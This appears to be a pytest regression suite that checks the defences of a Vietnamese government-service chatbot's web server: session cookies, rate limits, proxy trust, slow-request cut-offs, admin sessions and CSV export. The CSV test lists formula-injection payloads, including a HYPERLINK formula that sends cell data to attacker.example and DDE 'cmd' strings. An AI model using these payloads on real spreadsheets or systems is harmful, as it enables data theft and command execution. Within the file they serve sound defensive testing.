"""Issue 14 regressions over real HTTP on 127.0.0.1 (see ../shared/reviews/security-2026-12.md):
server-issued web identity, real clients behind trusted proxies, admin sessions."""

from __future__ import annotations

import asyncio
import hashlib
import json
import logging
import sys
import time
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from channel_support import GUIDE_TEXT, PROCEDURE, bot_config, running, web_client
from sqlalchemy import text

from bot.web.chat import SESSION_COOKIE
from bot.web.server import Server

TOKEN = "admin-token-for-tests-0123456789"


def url(server: Server, path: str) -> str:
    return f"http://127.0.0.1:{server.port}{path}"


async def post(
    http: aiohttp.ClientSession, server: Server, body: dict[str, Any], **headers: str
) -> tuple[int, list[dict[str, Any]]]:
    async with http.post(url(server, "/api/chat"), json=body, headers=headers) as resp:
        data = await resp.json()
        return resp.status, list(data.get("replies", []))


async def press(
    http: aiohttp.ClientSession,
    server: Server,
    replies: list[dict[str, Any]],
    label: str,
    optional: bool = False,
) -> list[dict[str, Any]]:
    buttons = {b["label"]: b["payload"] for b in replies[-1]["buttons"]}
    if label not in buttons and optional:
        return replies
    _, out = await post(http, server, {"button": buttons[label]})
    return out


def cookie(http: aiohttp.ClientSession, name: str = SESSION_COOKIE) -> str:
    return {c.key: c.value for c in http.cookie_jar}[name]


async def test_the_server_issues_a_random_hashed_session_cookie(tmp_path: Path) -> None:
    async with running(bot_config(tmp_path)) as server, web_client() as http:
        async with http.post(url(server, "/api/chat"), json={"text": ""}) as resp:
            assert resp.status == 200
            set_cookie = resp.headers["Set-Cookie"]
        assert "HttpOnly" in set_cookie and "SameSite=Lax" in set_cookie and "Path=/" in set_cookie
        assert (
            "Secure" not in set_cookie
        )  # plain HTTP, no trusted proxy: a Secure cookie would be lost
        token = cookie(http)
        assert len(token) >= 43  # 32 random bytes, URL-safe base64: 256 bits
        db = server.store.engine  # type: ignore[attr-defined]
        with db.connect() as conn:
            rows = conn.execute(text("SELECT token_hash, user_id FROM web_session")).all()
        assert [r.token_hash for r in rows] == [hashlib.sha256(token.encode()).hexdigest()]
        assert token not in rows[0].user_id
        # The second turn keeps the session: no new cookie.
        async with http.post(url(server, "/api/chat"), json={"text": "trợ giúp"}) as resp:
            assert "Set-Cookie" not in resp.headers


async def test_a_chosen_id_or_cookie_never_reaches_another_citizens_conversation(
    tmp_path: Path,
) -> None:
    async with running(bot_config(tmp_path)) as server, web_client() as victim:
        await post(victim, server, {"text": ""})
        _, replies = await post(victim, server, {"text": GUIDE_TEXT})
        assert any("Khai sinh" in r["text"] or "khai sinh" in r["text"] for r in replies)
        db = server.store.engine  # type: ignore[attr-defined]
        with db.connect() as conn:
            victim_id = conn.execute(text("SELECT user_id FROM web_session")).scalar_one()
        # The attacker names the victim in the body, in ?user= and forges a cookie value.
        async with web_client() as attacker:
            attacker.cookie_jar.update_cookies({SESSION_COOKIE: victim_id})
            async with attacker.post(
                url(server, f"/api/chat?user={victim_id}"),
                json={"user": victim_id, "button": "cmd:lichhen"},
            ) as resp:
                assert resp.status == 200
                assert (
                    cookie(attacker) != victim_id
                )  # a cookie the server did not issue is replaced
            with db.connect() as conn:
                users = conn.execute(text("SELECT user_id FROM web_session")).scalars().all()
                states = (
                    conn.execute(
                        text("SELECT user_id FROM conversation_state WHERE channel = 'web'")
                    )
                    .scalars()
                    .all()
                )
        assert len(users) == 2 and victim_id in users
        assert sorted(states) == sorted(users)  # two separate conversations


async def test_chat_limits_count_each_client_behind_a_trusted_proxy(tmp_path: Path) -> None:
    cfg = bot_config(tmp_path, **{"web.trusted_proxies": ["127.0.0.0/8"]})
    async with running(cfg) as server, web_client() as http:
        flood = {"X-Forwarded-For": "203.0.113.7"}
        statuses = []
        for _ in range(70):
            async with http.get(url(server, "/api/inbox"), headers=flood) as resp:
                statuses.append(resp.status)
        assert statuses[0] == 200 and statuses[-1] == 429
        # Another citizen behind the same proxy is not affected.
        status, _ = await post(http, server, {"text": ""}, **{"X-Forwarded-For": "198.51.100.4"})
        assert status == 200


async def test_forwarded_for_is_ignored_from_an_untrusted_peer(tmp_path: Path) -> None:
    cfg = bot_config(tmp_path, **{"admin.token": TOKEN})  # no trusted proxies
    async with running(cfg) as server, aiohttp.ClientSession() as http:
        statuses = []
        for n in range(7):
            spoof = {"X-Forwarded-For": f"198.51.100.{n}", "Authorization": "Bearer wrong"}
            async with http.get(url(server, "/admin/status.json"), headers=spoof) as resp:
                statuses.append(resp.status)
        assert (
            statuses[:5] == [401] * 5 and statuses[-1] == 429
        )  # rotating the header does not help


async def test_wrong_admin_tokens_lock_out_only_their_client(tmp_path: Path) -> None:
    cfg = bot_config(tmp_path, **{"admin.token": TOKEN, "web.trusted_proxies": ["127.0.0.1"]})
    async with running(cfg) as server, aiohttp.ClientSession() as http:
        attacker = {"X-Forwarded-For": "203.0.113.66"}
        statuses = []
        for _ in range(7):
            async with http.post(
                url(server, "/admin/login"), data={"token": "guess"}, headers=attacker
            ) as resp:
                statuses.append(resp.status)
        assert statuses[:5] == [401] * 5 and statuses[-1] == 429
        admin = {"X-Forwarded-For": "198.51.100.20", "Authorization": f"Bearer {TOKEN}"}
        async with http.get(url(server, "/admin/status.json"), headers=admin) as resp:
            assert resp.status == 200


async def test_each_admin_login_is_a_new_session_and_logout_ends_it(tmp_path: Path) -> None:
    cfg = bot_config(tmp_path, **{"admin.token": TOKEN, "web.trusted_proxies": ["127.0.0.1"]})
    async with running(cfg) as server:
        sessions = []
        for _ in range(2):
            async with web_client() as http:
                async with http.post(
                    url(server, "/admin/login"), data={"token": TOKEN}, allow_redirects=False
                ) as resp:
                    assert resp.status == 303
                sessions.append(cookie(http, "tthc_admin"))
        assert sessions[0] != sessions[1]
        async with aiohttp.ClientSession() as http:
            old = {"Cookie": f"tthc_admin={sessions[0]}"}
            async with http.get(url(server, "/admin/status.json"), headers=old) as resp:
                assert resp.status == 200
            async with http.post(
                url(server, "/admin/logout"), headers=old, allow_redirects=False
            ) as resp:
                assert resp.status == 303
            async with http.get(url(server, "/admin/status.json"), headers=old) as resp:
                assert resp.status == 401  # the old cookie no longer works anywhere
            other = {"Cookie": f"tthc_admin={sessions[1]}"}
            async with http.get(url(server, "/admin/status.json"), headers=other) as resp:
                assert resp.status == 200
            # Behind a TLS proxy the cookie is Secure.
            tls = {"X-Forwarded-Proto": "https"}
            async with http.post(
                url(server, "/admin/login"),
                data={"token": TOKEN},
                headers=tls,
                allow_redirects=False,
            ) as resp:
                assert "Secure" in resp.headers["Set-Cookie"]
            async with http.post(url(server, "/api/chat"), json={"text": ""}, headers=tls) as resp:
                assert "Secure" in resp.headers["Set-Cookie"]


async def test_a_forged_button_gets_the_pending_question_again(tmp_path: Path) -> None:
    async with running(bot_config(tmp_path)) as server, web_client() as http:
        await post(http, server, {"text": ""})
        _, replies = await post(http, server, {"button": "go:feedback.contact"})
        assert "Nút này đã cũ" in replies[0]["text"]
        assert not any("số điện thoại" in r["text"] for r in replies)
        # At the checklist, forged ticks (`have:` + 500 characters) never enter the state.
        _, replies = await post(http, server, {"text": GUIDE_TEXT})
        replies = await press(http, server, replies, PROCEDURE, optional=True)
        replies = await press(http, server, replies, "Xem giấy tờ cần chuẩn bị")
        while "Câu hỏi" in replies[-1]["text"]:
            _, replies = await post(http, server, {"button": replies[-1]["buttons"][0]["payload"]})
        assert any(b["payload"].startswith("have:") for b in replies[-1]["buttons"])
        db = server.store.engine  # type: ignore[attr-defined]
        for n in range(8):
            status, replies = await post(http, server, {"button": f"have:{n:0>500}"})
            assert status == 200 and "Nút này đã cũ" in replies[0]["text"]
        with db.connect() as conn:
            state = conn.execute(text("SELECT state FROM conversation_state")).scalar_one()
        assert "0" * 400 not in str(state)


async def _closed_within(reader: asyncio.StreamReader, seconds: float) -> bool:
    """True when the server closes the connection (EOF or reset) within `seconds`."""
    try:
        async with asyncio.timeout(seconds):
            while await reader.read(1024):
                pass
        return True
    except (TimeoutError, ConnectionError):
        return isinstance(sys.exc_info()[1], ConnectionError)


async def test_slow_headers_and_slow_bodies_are_cut_off(tmp_path: Path) -> None:
    cfg = bot_config(tmp_path, **{"web.header_timeout_seconds": 1, "web.body_timeout_seconds": 1})
    async with running(cfg) as server:
        # Headers that never finish.
        reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: a")
        await writer.drain()
        assert await _closed_within(reader, 5)
        writer.close()
        # A body that trickles.
        reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
        writer.write(
            b"POST /api/chat HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b"Content-Length: 100000\r\n\r\n{"
        )
        await writer.drain()
        assert await _closed_within(reader, 5)
        writer.close()
        # The server still answers.
        async with aiohttp.ClientSession() as http, http.get(url(server, "/healthz")) as resp:
            assert resp.status == 200


async def test_connections_per_client_are_capped(tmp_path: Path) -> None:
    cfg = bot_config(tmp_path, **{"web.max_connections_per_client": 5})
    async with running(cfg) as server:
        idle = [await asyncio.open_connection("127.0.0.1", server.port) for _ in range(5)]
        reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
        assert await _closed_within(reader, 5)  # the sixth is dropped at once
        writer.close()
        for _, w in idle:
            w.close()
        await asyncio.sleep(0.1)
        async with aiohttp.ClientSession() as http, http.get(url(server, "/healthz")) as resp:
            assert resp.status == 200  # closed connections free their places


async def test_no_session_credential_in_the_access_log(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="aiohttp.access")
    async with running(bot_config(tmp_path)) as server, web_client() as http:
        await post(http, server, {"text": ""})
        async with http.get(url(server, "/api/inbox")) as resp:
            assert resp.status == 200
        token = cookie(http)
    lines = [r.getMessage() for r in caplog.records if r.name == "aiohttp.access"]
    assert any("/api/inbox" in line for line in lines)
    assert not any(token in line for line in lines)


PROXY = {"web.trusted_proxies": ["127.0.0.1"]}


async def book_first_place(
    http: aiohttp.ClientSession, server: Server, client: str
) -> list[dict[str, Any]]:
    """A new web session books the first offered place of the first office, day and slot."""
    via = {"X-Forwarded-For": client}
    _, replies = await post(http, server, {"text": GUIDE_TEXT}, **via)
    for prefix in ("pick:", "go:booking.start", "office:", "day:", "slot:", "go:booking.book"):
        payloads = [b["payload"] for r in replies for b in r["buttons"]]
        chosen = [p for p in payloads if p.startswith(prefix)]
        if prefix == "pick:" and not chosen:
            continue
        assert chosen, (prefix, payloads)
        _, replies = await post(http, server, {"button": chosen[0]}, **via)
    return replies


async def test_bookings_are_limited_per_client_address_and_office_day(
    tmp_path: Path, empty_db_url: str
) -> None:
    cfg = bot_config(
        tmp_path, **PROXY, **{"booking.max_per_client_day": 2, "database.url": empty_db_url}
    )
    async with running(cfg) as server:
        texts = []
        for _ in range(3):  # three throw-away sessions from one address
            async with web_client() as http:
                replies = await book_first_place(http, server, "203.0.113.50")
                texts.append(replies[0]["text"])
        assert "Mã" in texts[0] or "mã" in texts[0]
        assert "Từ thiết bị/mạng này đã có 2 lịch hẹn" in texts[2]
        async with web_client() as http:  # someone else still books
            replies = await book_first_place(http, server, "198.51.100.77")
            assert "Từ thiết bị/mạng này" not in replies[0]["text"]
        db = server.store.engine  # type: ignore[attr-defined]
        with db.connect() as conn:
            origins = conn.execute(text("SELECT origin FROM booking ORDER BY id")).scalars().all()
        assert len(origins) == 3 and origins[0] == origins[1] != origins[2]
        assert not any("203.0.113" in o for o in origins)  # a keyed hash, not the address


async def test_feedback_is_limited_per_client_address(tmp_path: Path, empty_db_url: str) -> None:
    cfg = bot_config(
        tmp_path, **PROXY, **{"feedback.max_per_client_hour": 3, "database.url": empty_db_url}
    )
    async with running(cfg) as server:
        answers = []
        for _ in range(5):
            async with web_client() as http:
                via = {"X-Forwarded-For": "203.0.113.51"}
                await post(http, server, {"text": ""}, **via)
                _, replies = await post(http, server, {"text": "/start fb-phuong-viet-hung"}, **via)
                if any(b["payload"] == "rate:1" for r in replies for b in r["buttons"]):
                    _, replies = await post(http, server, {"button": "rate:1"}, **via)
                answers.append(" ".join(r["text"] for r in replies))
        limited = ["thử lại sau ít phút" in a for a in answers]
        assert limited == [False, False, False, True, True]
        db = server.store.engine  # type: ignore[attr-defined]
        with db.connect() as conn:
            assert conn.execute(text("SELECT count(*) FROM feedback_response")).scalar_one() == 3


async def test_feedback_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    import datetime as dt

    from bot.feedback.report import ResponseRow
    from bot.feedback.store import FeedbackStore

    hostile = [
        '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C notepad'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ]
    cfg = bot_config(tmp_path, **{"admin.token": TOKEN})
    async with running(cfg) as server, aiohttp.ClientSession() as http:
        store = FeedbackStore(server.store.engine)  # type: ignore[attr-defined]
        for comment in hostile:
            store.add(
                ResponseRow(
                    created_at=dt.datetime.now(dt.UTC),
                    office="=cmd",
                    procedure="khai-sinh",
                    overall=3,
                    groups=(3, 3, 3, 3, 3),
                    comment=comment,
                )
            )
        bearer = {"Authorization": f"Bearer {TOKEN}"}
        async with http.get(url(server, "/admin/feedback.csv"), headers=bearer) as resp:
            assert resp.status == 200
            body = (await resp.read()).decode("utf-8-sig")
    import csv
    import io

    rows = list(csv.reader(io.StringIO(body)))[1:]
    assert len(rows) == len(hostile)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert {row[-2] for row in rows} == {"'" + c for c in hostile}


async def test_the_database_files_are_private(tmp_path: Path) -> None:
    import os
    import stat

    async with running(bot_config(tmp_path)) as server, web_client() as http:
        await post(http, server, {"text": ""})  # writes: the WAL exists now
        files = sorted(tmp_path.glob("tthc.db*"))
        assert any(f.name == "tthc.db-wal" for f in files), files
        for f in files:
            if f.name.endswith("migrate-lock"):
                continue
            assert stat.S_IMODE(os.stat(f).st_mode) == 0o600, f


def test_check_refuses_a_short_admin_token(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from bot.cli import main

    config = tmp_path / "config.yaml"
    config.write_text(f"data_dir: {tmp_path / 'data'}\n", encoding="utf-8")
    short = {"TTHC_ADMIN_TOKEN": "a" * 23}
    with pytest.MonkeyPatch.context() as mp:
        for key, value in short.items():
            mp.setenv(key, value)
        assert main(["check", "--config", str(config)]) == 1
        assert "'admin.token' is 23 characters; use at least 24" in capsys.readouterr().err
        mp.setenv("TTHC_ADMIN_TOKEN", "b" * 24)
        assert main(["check", "--config", str(config)]) == 0


async def test_case_codes_are_long_and_wrong_guesses_are_limited(tmp_path: Path) -> None:
    async with running(bot_config(tmp_path, **PROXY)) as server:
        answers = []
        for n in range(7):  # fresh sessions from one address: the address is counted too
            async with web_client() as http:
                via = {"X-Forwarded-For": "203.0.113.52"}
                _, replies = await post(http, server, {"text": f"mã ABCDEFGH{n:02d}"}, **via)
                answers.append(replies[0]["text"])
        assert all("Không tìm thấy hồ sơ" in a for a in answers[:5])
        assert all("nhập sai mã hồ sơ nhiều lần" in a for a in answers[5:])
        async with web_client() as http:  # another address is not affected
            via = {"X-Forwarded-For": "198.51.100.52"}
            _, replies = await post(http, server, {"text": "mã ABCDEFGH99"}, **via)
            assert "Không tìm thấy hồ sơ" in replies[0]["text"]


async def test_web_notices_are_shared_by_workers(tmp_path: Path, empty_db_url: str) -> None:
    """Two workers on one database: a notice queued by one is collected through the other."""
    from bot.core.messages import Outgoing, Reply

    cfg = bot_config(tmp_path, **{"database.url": empty_db_url})
    due: list[Outgoing] = []
    async with (
        running(cfg, outbox=[lambda: list(due)]) as first,
        running(cfg.with_overrides(**{"web.port": 0})) as second,
        web_client() as http,
    ):
        await post(http, first, {"text": ""})
        db = first.store.engine  # type: ignore[attr-defined]
        with db.connect() as conn:
            user = conn.execute(text("SELECT user_id FROM web_session")).scalar_one()
        due[:] = [Outgoing("web", user, (Reply("Buổi tiếp nhận bị hủy"),))]
        assert await first.flush_outbox() == 1
        due.clear()
        async with http.get(url(second, "/api/inbox")) as resp:
            assert [r["text"] for r in (await resp.json())["replies"]] == ["Buổi tiếp nhận bị hủy"]
        async with http.get(url(first, "/api/inbox")) as resp:
            assert (await resp.json())["replies"] == []  # handed out once


async def test_a_volunteer_web_login_works_until_an_admin_revokes_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], empty_db_url: str
) -> None:
    from bot.cli import main

    cfg = bot_config(tmp_path, **{"database.url": empty_db_url})
    config = tmp_path / "config.yaml"
    config.write_text(f"database:\n  url: {cfg['database.url']}\n", encoding="utf-8")
    async with running(cfg) as server, web_client() as http:
        assert main(["volunteers", "add", "lan", "--config", str(config)]) == 0
        code = capsys.readouterr().out.split("/dangnhap ")[1].split()[0]
        assert len(code) >= 43
        _, replies = await post(http, server, {"text": "/tnv"})
        assert "dành cho tình nguyện viên" in replies[0]["text"]
        _, replies = await post(http, server, {"text": "/dangnhap wrong-code"})
        assert "không đúng" in replies[0]["text"]
        _, replies = await post(http, server, {"text": f"/dangnhap {code}"})
        assert "lan" in replies[0]["text"]
        _, replies = await post(http, server, {"text": "/tnv"})
        assert "Chế độ tình nguyện viên" in replies[0]["text"]
        _, replies = await post(http, server, {"button": "cmd:hoso_moi"})
        case = replies[0]["text"].split("mã ")[1].split(".")[0].strip()
        assert len(case) == 10
        assert main(["volunteers", "revoke", "lan", "--config", str(config)]) == 0
        _, replies = await post(http, server, {"text": "/tnv"})
        assert "dành cho tình nguyện viên" in replies[0]["text"]
        _, replies = await post(http, server, {"text": f"/dangnhap {code}"})
        assert "không đúng" in replies[0]["text"]  # a revoked code stays dead


def test_event_loop_errors_are_logged_at_most_twenty_a_minute(
    caplog: pytest.LogCaptureFixture,
) -> None:
    from bot.web.guard import QuietErrors

    handler = QuietErrors(burst=20, window=60)
    loop = asyncio.new_event_loop()
    try:
        with caplog.at_level(logging.ERROR, logger="asyncio"):
            for _ in range(1000):  # what 1,100 connections over the open-files limit produced
                handler(
                    loop,
                    {
                        "message": "socket.accept() out of system resource",
                        "exception": OSError(24, "Too many open files"),
                    },
                )
    finally:
        loop.close()
    assert len([r for r in caplog.records if r.name == "asyncio"]) == 20
    assert handler.dropped == 980


async def test_headers_reveal_no_version(tmp_path: Path) -> None:
    async with (
        running(bot_config(tmp_path)) as server,
        aiohttp.ClientSession() as http,
        http.get(url(server, "/healthz")) as resp,
    ):
        assert resp.headers["Server"] == "tthc-bot"
        assert "camera=()" in resp.headers["Permissions-Policy"]


async def test_a_conversation_never_grows_past_64_kb(tmp_path: Path) -> None:
    from bot.storage.state import MAX_STATE_BYTES, SqlStateStore

    async with running(bot_config(tmp_path)) as server, web_client() as http:
        await post(http, server, {"text": ""})
        db = server.store.engine  # type: ignore[attr-defined]
        with db.connect() as conn:
            user = conn.execute(text("SELECT user_id FROM web_session")).scalar_one()
        store = SqlStateStore(db)
        state = store.get("web", user) or {}
        state["facts"] = {"q": ""}
        size = len(json.dumps(state, ensure_ascii=False).encode())
        state["facts"]["q"] = "x" * (MAX_STATE_BYTES - size - 50)  # 50 bytes below the limit
        store.put("web", user, state)
        _, replies = await post(http, server, {"text": GUIDE_TEXT})
        assert "quá dài" in replies[0]["text"]
        assert store.get("web", user) == state  # the turn that would grow it was not saved
        _, replies = await post(http, server, {"button": "cmd:restart"})
        assert "Xin chào" in replies[0]["text"]  # starting over works


async def test_another_sites_login_form_cannot_spend_the_admins_attempts(tmp_path: Path) -> None:
    cfg = bot_config(tmp_path, **{"admin.token": TOKEN})
    async with running(cfg) as server, aiohttp.ClientSession() as http:
        evil = {"Origin": "https://evil.example"}
        for _ in range(7):
            async with http.post(
                url(server, "/admin/login"), data={"token": "guess"}, headers=evil
            ) as resp:
                assert resp.status == 403
        async with http.post(
            url(server, "/admin/login"), data={"token": TOKEN}, allow_redirects=False
        ) as resp:
            assert resp.status == 303  # the admin's own attempts are untouched


async def test_malformed_requests_cannot_flood_the_error_log(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.ERROR, logger="aiohttp.server")
    from bot.web.guard import LogBudget

    async with running(bot_config(tmp_path)) as server:
        for budget in logging.getLogger("aiohttp.server").filters:
            if isinstance(budget, LogBudget):  # a fresh minute, whatever ran before in this process
                budget.started, budget.passed, budget.dropped = time.monotonic(), 0, 0
        for _ in range(60):  # each one used to log a full traceback
            reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 9000 + b"\r\n\r\n")
            await writer.drain()
            assert (await reader.read(200)).startswith(b"HTTP/1.0 400")
            writer.close()
    logged = [r for r in caplog.records if r.name == "aiohttp.server"]
    assert 1 <= len(logged) <= 20


async def test_knowing_a_victims_id_gives_no_access_to_their_bookings(tmp_path: Path) -> None:
    async with running(bot_config(tmp_path, **PROXY)) as server:
        async with web_client() as victim:
            await book_first_place(victim, server, "198.51.100.10")
        db = server.store.engine  # type: ignore[attr-defined]
        with db.connect() as conn:
            code, owner = conn.execute(text("SELECT code, user_id FROM booking")).one()
        async with web_client() as attacker:
            via = {"X-Forwarded-For": "203.0.113.10"}
            attacker.cookie_jar.update_cookies({SESSION_COOKIE: owner})
            _, replies = await post(
                attacker, server, {"user": owner, "button": "cmd:lichhen"}, **via
            )
            assert code not in " ".join(r["text"] for r in replies)
            for button in (f"cancel:{code}", "go:booking.cancel_do"):
                await post(attacker, server, {"user": owner, "button": button}, **via)
        with db.connect() as conn:
            assert conn.execute(text("SELECT status FROM booking")).scalar_one() == "confirmed"
